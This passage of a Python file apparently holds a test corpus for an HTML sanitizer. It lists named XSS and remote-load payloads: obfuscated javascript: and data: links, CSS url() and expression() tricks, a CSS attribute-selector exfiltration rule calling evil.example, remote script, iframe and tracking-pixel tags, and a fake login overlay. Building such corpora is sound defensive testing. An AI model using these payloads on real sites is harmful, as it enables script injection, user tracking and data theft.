        '<base href="https://evil.example/"><a href="/login">x</a><img src="/pixel.gif">',
    ),
]

# javascript:/data: URL obfuscation in links and images.
URLS = [
    ("LS before scheme", "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>"),
    ("PS before scheme", "123<a href='\u2029javascript:alert(1)'>I am a dolphin too!</a>"),
    (
        "unicode whitespace",
        "123<a href=' javascript:alert(1)'>CLICK</a><a href='&#xA0javascript:alert(1)'>CLICK</a><a href='&#x1680;javascript:alert(1)'>CLICK</a><a href='&#x180E;javascript:alert(1)'>CLICK</a><a href='&#x2000;javascript:alert(1)'>CLICK</a><a href='&#x2005;javascript:alert(1)'>CLICK</a><a href='&#x200B;javascript:alert(1)'>CLICK</a><a href='&#x205f;javascript:alert(1)'>CLICK</a><a href='&#x3000;javascript:alert(1)'>CLICK</a>",
    ),
    ("low ascii", '<a href="\x01java\x03script:alert(1)">@shafigullin<a>'),
    ("data link", "<a href=data:,evilnastystuff>clickme</a>"),
    (
        "data html link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    ("data svg image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("data image no base64", "<img src=data:image/jpeg,ab798ewqxbaudbuoibeqbla>"),
    ("javascript dos image", "<img src='javascript:while(1){}'>"),
    ("colon entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("tab entity", '<a href="java&Tab;script:alert(1)">x</a>'),
    ("newline entity", '<a href="java&NewLine;script:alert(1)">x</a>'),
    ("percent encoded", '<a href="javascript%3Aalert(1)">x</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("jar", '<a href="jar:https://x.example/a.jar!/x.html">x</a>'),
    ("filesystem", '<a href="file:///etc/passwd">x</a>'),
    ("intent", '<a href="intent://x#Intent;scheme=javascript:alert(1);end">x</a>'),
    ("relative to base", '<a href="/. /,alert(42)//#">XXX</a>'),
    ("protocol relative image", '<img src="//evil.example/pixel.gif">'),
    (
        "backslash protocol relative",
        '<img src="\\\\evil.example\\pixel.gif"><a href="\\\\evil.example">x</a>',
    ),
    ("mixed case data", '<img src="DaTa:text/html,<script>alert(1)</script>">'),
    ("cid unknown", '<img src="cid:nothere@x">'),
    (
        "area href",
        '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map><img usemap=#m src=x>',
    ),
    ("a ping", '<a href="https://ok.example/" ping="https://tracker.example/ping">x</a>'),
    ("xlink in html", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("formaction link", '<a href="https://ok.example/" formaction="javascript:alert(1)">x</a>'),
    (
        "cite javascript",
        '<blockquote cite="javascript:alert(1)">q</blockquote><q cite=" java\tscript:alert(1)">q</q>',
    ),
    (
        "cite data",
        '<del cite="data:text/html,<script>alert(1)</script>">d</del><ins cite="cid:x">i</ins>',
    ),
]

# CSS: remote loads, script and escapes in style attributes and sheets.
CSS = [
    ("url", '<p style="background: url(https://evil.example/x.png)">x</p>'),
    ("url quoted", "<p style=\"background-image: url('https://evil.example/x.png')\">x</p>"),
    ("url uppercase", '<p style="background: URL(https://evil.example/x.png)">x</p>'),
    ("url escaped u", '<p style="background: \\75rl(https://evil.example/x.png)">x</p>'),
    ("url escaped r", '<p style="background: u\\72l(https://evil.example/x.png)">x</p>'),
    ("url escaped paren", '<p style="background: url\\28https://evil.example/x.png)">x</p>'),
    ("url entity", '<p style="background: &#117;rl(https://evil.example/x.png)">x</p>'),
    ("url entity hex", '<p style="background: u&#x72;l(https://evil.example/x.png)">x</p>'),
    ("url comment split", '<p style="background: u/**/rl(https://evil.example/x.png)">x</p>'),
    ("url newline escape", '<p style="background: u\\\nrl(https://evil.example/x.png)">x</p>'),
    (
        "url after important",
        '<p style="color: red !important; background: url(//evil.example/x)">x</p>',
    ),
    (
        "image-set",
        "<p style=\"background-image: image-set('https://evil.example/x.png' 1x)\">x</p>",
    ),
    (
        "webkit image-set",
        "<p style=\"background-image: -webkit-image-set('https://evil.example/x.png' 1x)\">x</p>",
    ),
    (
        "cross-fade",
        '<p style="background-image: cross-fade(url(https://evil.example/a.png), url(https://evil.example/b.png), 50%)">x</p>',
    ),
    ("image function", "<p style=\"background-image: image('https://evil.example/x.png')\">x</p>"),
    ("src function", "<p style=\"background-image: src('https://evil.example/x.png')\">x</p>"),
    (
        "list-style-image",
        '<ul><li style="list-style-image: url(https://evil.example/x.png)">x</li></ul>',
    ),
    (
        "list-style shorthand",
        '<ul><li style="list-style: square url(https://evil.example/x.png)">x</li></ul>',
    ),
    ("border-image", '<p style="border-image: url(https://evil.example/x.png) 30 round">x</p>'),
    ("cursor", '<p style="cursor: url(https://evil.example/c.cur), auto">x</p>'),
    ("content", '<p style="content: url(https://evil.example/x.png)">x</p>'),
    ("mask", '<p style="mask: url(https://evil.example/m.svg#m)">x</p>'),
    ("filter", '<p style="filter: url(https://evil.example/f.svg#f)">x</p>'),
    ("behavior", '<p style="behavior: url(https://evil.example/x.htc)">x</p>'),
    ("moz-binding", '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">x</p>'),
    ("expression", '<p style="width: expression(alert(1))">x</p>'),
    ("expression comment", '<p style="width: expr/**/ession(alert(1))">x</p>'),
    ("expression escaped", '<p style="width: e\\78pression(alert(1))">x</p>'),
    ("javascript url", '<p style="background: url(javascript:alert(1))">x</p>'),
    (
        "var indirection",
        '<p style="--u: url(https://evil.example/x.png); background: var(--u)">x</p>',
    ),
    (
        "attr function",
        '<p data-u="https://evil.example/x.png" style="background: attr(data-u url)">x</p>',
    ),
    ("env function", '<p style="width: env(safe-area-inset-left)">x</p>'),
    (
        "position overlay",
        '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; background: white">Log in again</div>',
    ),
    (
        "unknown property",
        '<p style="xss: expression(alert(1)); -webkit-user-modify: read-write">x</p>',
    ),
    (
        "declaration in string",
        "<p style=\"font-family: 'a;background:url(https://evil.example/x)'\">x</p>",
    ),
    (
        "brace in value",
        '<p style="color: red} body { background: url(https://evil.example/x)">x</p>',
    ),
    ("sheet import", "<style>@import url(https://evil.example/x.css);</style>"),
    ("sheet import string", '<style>@import "https://evil.example/x.css";</style>'),
    (
        "sheet font-face",
        "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>",
    ),
    ("sheet namespace", "<style>@namespace url(https://evil.example/ns);</style>"),
    (
        "sheet attribute exfiltration",
        '<style>a[href^="https://a"] { background: url(https://evil.example/?a) }</style><a href="https://a.example/">x</a>',
    ),
    ("sheet escapes", "<style>p { background: \\75rl(https://evil.example/x.png) }</style>"),
    ("sheet close style", "<style>p { color: red }</style ><img src=x onerror=alert(1)>"),
    ("sheet markup", '<style>p { font-family: "</style><img src=x onerror=alert(1)>" }</style>'),
    (
        "sheet cdo cdc",
        "<style><!-- p { color: red } --></style><!-- <img src=x onerror=alert(1)> -->",
    ),
    (
        "sheet in head",
        "<html><head><style>body { background: url(https://evil.example/bg.png) }</style></head><body>x</body></html>",
    ),
    (
        "sheet media import",
        "<style>@media screen { @import url(https://evil.example/x.css); p { background: url(https://evil.example/y) } }</style>",
    ),
    (
        "sheet keyframes",
        "<style>@keyframes x { from { background: url(https://evil.example/x) } }</style>",
    ),
    (
        "sheet supports",
        "<style>@supports (display: grid) { p { background: url(https://evil.example/x) } }</style>",
    ),
    ("sheet unclosed", "<style>p { background: url(https://evil.example/x)"),
    (
        "sheet media function",
        "<style>@media url(https://evil.example/m) { p { color: red } }</style>",
    ),
    ("sheet media and(", "<style>@media screen and(max-width: 1px) { p { color: red } }</style>"),
    ("svg style sheet", "<svg><style>p { background: url(https://evil.example/x) }</style></svg>"),
]

# Remote loads through HTML (tracking pixels, prefetches), besides <img src>.
REMOTE = [
    ("img srcset", '<img srcset="https://evil.example/x.png 1x">'),
    (
        "img src and srcset",
        '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/x.png 2x">',
    ),
    (
        "picture source",
        '<picture><source srcset="https://evil.example/x.png"><img src="data:image/png;base64,AAAA"></picture>',
    ),
    (
        "table background",
        '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>',
    ),
    ("body background", '<body background="https://evil.example/bg.png">x</body>'),
    (
        "video poster",
        '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    ),
    ("audio src", '<audio src="https://evil.example/a.mp3" autoplay></audio>'),
    ("track", '<video><track src="https://evil.example/t.vtt"></video>'),
    ("input image", '<input type="image" src="https://evil.example/i.png">'),
    (
        "link prefetch",
        '<link rel="prefetch" href="https://evil.example/p"><link rel="dns-prefetch" href="//evil.example">',
    ),
    ("link icon", '<link rel="icon" href="https://evil.example/favicon.ico">'),
    ("meta refresh remote", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("object remote", '<object data="https://evil.example/x.swf"></object>'),
    ("embed remote", '<embed src="https://evil.example/x.swf">'),
    ("iframe remote", '<iframe src="https://evil.example/"></iframe>'),
    ("frame remote", '<frameset><frame src="https://evil.example/"></frameset>'),
    ("svg image remote", '<svg><image href="https://evil.example/x.png"/></svg>'),
    ("svg use remote", '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
    ("img lowsrc remote", '<img lowsrc="https://evil.example/x.png">'),
    ("img dynsrc remote", '<img dynsrc="https://evil.example/x.avi">'),
    ("bgsound remote", '<bgsound src="https://evil.example/x.wav">'),
    ("script remote", '<script src="https://evil.example/x.js"></script>'),
    (
        "form remote",
        '<form action="https://evil.example/post"><input name=x><button>go</button></form>',
    ),
    ("a ping remote", '<a href="https://ok.example/" ping="https://evil.example/ping">x</a>'),
    ("portal", '<portal src="https://evil.example/"></portal>'),
    ("entity-encoded remote src", '<img src="&#104;ttps://evil.example/x.png">'),
    ("whitespace remote src", '<img src=" \n https://evil.example/x.png">'),
    ("uppercase remote src", '<img src="HTTPS://EVIL.EXAMPLE/X.PNG">'),
]

CORPUS: list[tuple[str, str]] = [
    *(("owasp: " + n, p) for n, p in OWASP),
    *(("html5sec: " + n, p) for n, p in HTML5SEC),
    *(("mxss: " + n, p) for n, p in MXSS),
    *(("url: " + n, p) for n, p in URLS),
    *(("css: " + n, p) for n, p in CSS),
    *(("remote: " + n, p) for n, p in REMOTE),
]
